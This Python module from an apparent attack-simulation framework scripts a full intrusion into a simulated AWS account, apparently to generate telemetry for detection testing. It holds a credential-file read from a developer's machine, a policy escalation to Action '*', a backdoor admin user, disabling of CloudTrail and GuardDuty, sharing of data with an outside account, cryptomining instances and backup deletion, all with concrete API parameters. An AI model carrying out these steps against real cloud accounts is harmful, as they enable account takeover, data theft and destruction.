"""The cloud account: a developer's keys are stolen and used from outside; enumeration, new identities, blinded watchers, data taken."""

from __future__ import annotations

from typing import TYPE_CHECKING

from bartizan.simulate.company.cloud import ACCOUNT, Call, Principal, access_key
from bartizan.simulate.contract import Attack, Deed, Stage

if TYPE_CHECKING:
    from collections.abc import Sequence

__all__ = ["STAGE"]

_OUTSIDE = "203.0.113.88"
_STRANGER = "444455556666"
_ADMIN_POLICY = "arn:aws:iam::aws:policy/AdministratorAccess"
_DETECTOR = "a2b4c6d8e0f11223344556677889900a"


def _deed(name: str, what: str, tactic: str, *techniques: str, quiet: bool = False) -> Deed:
    principal = f"arn:aws:iam::{ACCOUNT}:user/{'support-sync' if name in _LATER else 'dev03'}"
    return Deed(id=name, what=what, techniques=techniques, tactic=tactic, host="aws", principal=principal, quiet=quiet)


_LATER = frozenset({"console-login", "stop-trail", "blind-guardduty", "bucket-policy", "snapshot-share", "other-region", "destroy-backups"})
_STEAL = Deed(
    id="aws-keys",
    what="The AWS keys in a developer's profile are read.",
    techniques=("T1552.001",),
    tactic="credential-access",
    host="dev-03",
    principal="NT AUTHORITY\\SYSTEM",
    quiet=True,
)
_VALID = _deed("aws-valid-keys", "The stolen keys are tried from outside.", "initial-access", "T1078.004", quiet=True)
_ENUMERATE = _deed(
    "aws-enumeration", "Users, roles, policies and buckets are listed in quick succession.", "discovery", "T1087.004", "T1069.003", "T1619"
)
_DENIED = _deed("aws-denied", "Rights are felt out by calls that are refused.", "discovery", "T1580", quiet=True)
_SECRETS = _deed("aws-secrets", "Every secret of the account is read.", "credential-access", "T1555.006")
_POLICY = _deed(
    "policy-version",
    "A policy the developer may edit is given a version that allows everything.",
    "privilege-escalation",
    "T1098.003",
    "T1548.005",
)
_KEY = _deed("second-key", "An access key is made for another user.", "persistence", "T1098.001")
_USER = _deed("cloud-user", "A user of the intruder's own is made, with a console password.", "persistence", "T1136.003")
_ATTACH = _deed("attach-admin", "The administrator policy is attached to that user.", "privilege-escalation", "T1098.003")
_LOGIN = _deed("console-login", "The new user signs in to the console from outside without a second factor.", "initial-access", "T1078.004")
_TRAIL = _deed("stop-trail", "The trail stops logging.", "defense-evasion", "T1562.008")
_GUARD = _deed(
    "blind-guardduty",
    "The threat detector is told to trust the intruder's network and then switched off.",
    "defense-evasion",
    "T1562.001",
    "T1562.008",
)
_BUCKET = _deed("bucket-policy", "A bucket is opened to a stranger's account and copied.", "exfiltration", "T1537", "T1530")
_SNAPSHOT = _deed("snapshot-share", "A disk snapshot is made and shared with a stranger's account.", "exfiltration", "T1537", "T1578.001")
_REGION = _deed("other-region", "Large machines are started in a region the company does not use.", "impact", "T1535", "T1496.001")
_DESTROY = _deed("destroy-backups", "Backup snapshots are deleted.", "impact", "T1485", "T1490")


def _act(attack: Attack) -> None:
    company = attack.company
    desk, tool = company.desks["dev-03"], attack.processes["dev"]
    moment = company.clock.at("15:14:29")
    with attack.doing(moment, _STEAL):
        shell = desk.host.run(moment, "cmd", f"cmd.exe /c type C:\\Users\\{desk.user.name}\\.aws\\credentials", tool)
        company.reach(moment + 4, tool, desk.host, ("api-telemetry.example.net", 443))
        desk.host.stop(moment + 5, shell)
    cli = "aws-cli/2.15.19 Python/3.11.6 Linux/6.5.0-26-generic exe/x86_64.ubuntu.22 prompt/off"
    dev = Principal("dev03", access_key("dev03"), _OUTSIDE, cli)
    _as_developer(attack, dev)
    _as_own_user(attack, Principal("support-sync", access_key("support-sync"), _OUTSIDE, cli))


def _calls(attack: Attack, clock: str, deed: Deed, who: Principal, calls: Sequence[Call]) -> None:
    moment = attack.company.clock.at(clock)
    with attack.doing(moment, deed):
        for turn, call in enumerate(calls):
            attack.company.cloud.call(moment + turn * (1.4 + attack.rng.random()), who, call)


def _as_developer(attack: Attack, dev: Principal) -> None:
    _calls(attack, "15:31:10", _VALID, dev, [Call("sts:GetCallerIdentity"), Call("iam:GetUser", {"userName": "dev03"})])
    names = (
        "ListUsers",
        "ListRoles",
        "ListGroups",
        "ListPolicies",
        "ListAttachedUserPolicies",
        "ListAccessKeys",
        "GetAccountAuthorizationDetails",
    )
    listed = [Call(f"iam:{name}", {"maxItems": 1000}) for name in names]
    listed += [
        Call("s3:ListBuckets"),
        *(Call("s3:GetBucketAcl", {"bucketName": f"example-{name}"}) for name in ("portal", "backups", "finance", "logs")),
    ]
    _calls(attack, "15:33:42", _ENUMERATE, dev, listed)
    refused = (
        "organizations:ListAccounts",
        "kms:ListKeys",
        "rds:DescribeDBSnapshots",
        "ec2:DescribeInstanceAttribute",
        "ssm:SendCommand",
        "iam:CreateRole",
        "lambda:CreateFunction20150331",
    )
    _calls(attack, "15:38:20", _DENIED, dev, [Call(action, None, None, "AccessDenied") for action in refused])
    secrets = [
        Call("secretsmanager:ListSecrets"),
        *(Call("secretsmanager:GetSecretValue", {"secretId": f"portal/{name}"}) for name in ("db", "mail", "payments", "jwt", "ci", "erp")),
    ]
    _calls(attack, "15:44:57", _SECRETS, dev, secrets)
    version = {
        "policyArn": f"arn:aws:iam::{ACCOUNT}:policy/dev-sandbox",
        "policyDocument": '{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}',
        "setAsDefault": True,
    }
    _calls(
        attack,
        "15:57:03",
        _POLICY,
        dev,
        [
            Call("iam:ListPolicyVersions", {"policyArn": version["policyArn"]}),
            Call("iam:CreatePolicyVersion", version, {"policyVersion": {"versionId": "v7", "isDefaultVersion": True}}),
        ],
    )
    _calls(
        attack,
        "16:04:31",
        _KEY,
        dev,
        [
            Call(
                "iam:CreateAccessKey",
                {"userName": "dev01"},
                {"accessKey": {"userName": "dev01", "accessKeyId": access_key("dev01", 2), "status": "Active"}},
            )
        ],
    )
    user = {"userName": "support-sync"}
    _calls(
        attack,
        "16:11:46",
        _USER,
        dev,
        [
            Call("iam:CreateUser", user, {"user": {**user, "path": "/", "arn": f"arn:aws:iam::{ACCOUNT}:user/support-sync"}}),
            Call("iam:CreateLoginProfile", {**user, "passwordResetRequired": False}),
            Call("iam:CreateAccessKey", user, {"accessKey": {**user, "accessKeyId": access_key("support-sync"), "status": "Active"}}),
        ],
    )
    _calls(attack, "16:12:20", _ATTACH, dev, [Call("iam:AttachUserPolicy", {**user, "policyArn": _ADMIN_POLICY})])


def _as_own_user(attack: Attack, own: Principal) -> None:
    cloud, clock = attack.company.cloud, attack.company.clock
    moment = clock.at("16:25:38")
    with attack.doing(moment, _LOGIN):
        cloud.sign_in(moment, own.name, _OUTSIDE, mfa=False)
    trail = {"name": f"arn:aws:cloudtrail:eu-central-1:{ACCOUNT}:trail/main"}
    _calls(
        attack,
        "17:48:09",
        _TRAIL,
        own,
        [
            Call("cloudtrail:GetTrailStatus", trail),
            Call("cloudtrail:PutEventSelectors", {"trailName": "main", "eventSelectors": [{"readWriteType": "ReadOnly"}]}),
            Call("cloudtrail:StopLogging", trail),
            Call("cloudtrail:StartLogging", trail),
        ],
    )
    detector = {"detectorId": _DETECTOR}
    _calls(
        attack,
        "16:31:15",
        _GUARD,
        own,
        [
            Call(
                "guardduty:CreateIPSet",
                {
                    **detector,
                    "name": "office",
                    "format": "TXT",
                    "location": "https://s3.amazonaws.com/example-public/ips.txt",
                    "activate": True,
                },
                {"ipSetId": "0cb8a1"},
            ),
            Call("guardduty:UpdateDetector", {**detector, "enable": False}),
        ],
    )
    opened = {
        "bucketName": "example-finance",
        "bucketPolicy": {
            "Statement": [
                {
                    "Effect": "Allow",
                    "Principal": {"AWS": f"arn:aws:iam::{_STRANGER}:root"},
                    "Action": "s3:*",
                    "Resource": "arn:aws:s3:::example-finance/*",
                }
            ]
        },
    }
    _calls(
        attack,
        "16:52:00",
        _BUCKET,
        own,
        [
            Call("s3:GetBucketPolicy", {"bucketName": "example-finance"}),
            Call("s3:PutBucketPolicy", opened),
            Call("s3:DeleteBucketPublicAccessBlock", {"bucketName": "example-finance"}),
        ],
    )
    snapshot = {"snapshotId": "snap-0badc0ffee0ddf00d"}
    share = {**snapshot, "createVolumePermission": {"add": {"items": [{"userId": _STRANGER}]}}, "attributeType": "CREATE_VOLUME_PERMISSION"}
    _calls(
        attack,
        "17:05:44",
        _SNAPSHOT,
        own,
        [
            Call("ec2:DescribeVolumes"),
            Call("ec2:CreateSnapshot", {"volumeId": "vol-0a1a2a3a4a5a6a7a8"}, {**snapshot, "status": "pending"}),
            Call("ec2:ModifySnapshotAttribute", share, {"_return": True}),
        ],
    )
    machines = {
        "instancesSet": {"items": [{"imageId": "ami-0e0e0e0e0e0e0e0e0", "minCount": 8, "maxCount": 8}]},
        "instanceType": "p3.16xlarge",
    }
    _calls(
        attack,
        "17:21:30",
        _REGION,
        own,
        [
            Call("ec2:DescribeRegions"),
            Call("ec2:RunInstances", machines, None, "Client.InstanceLimitExceeded", "ap-southeast-1"),
            Call("ec2:RunInstances", machines, {"instancesSet": {"items": [{"instanceId": "i-0c0c0c0c0c0c0c0c0"}]}}, "", "ap-southeast-1"),
        ],
    )
    _calls(
        attack,
        "17:40:12",
        _DESTROY,
        own,
        [Call("ec2:DeleteSnapshot", {"snapshotId": f"snap-0{attack.rng.getrandbits(64):016x}"}, {"_return": True}) for _ in range(14)],
    )


STAGE = Stage(order=70, title="The cloud account", act=_act)
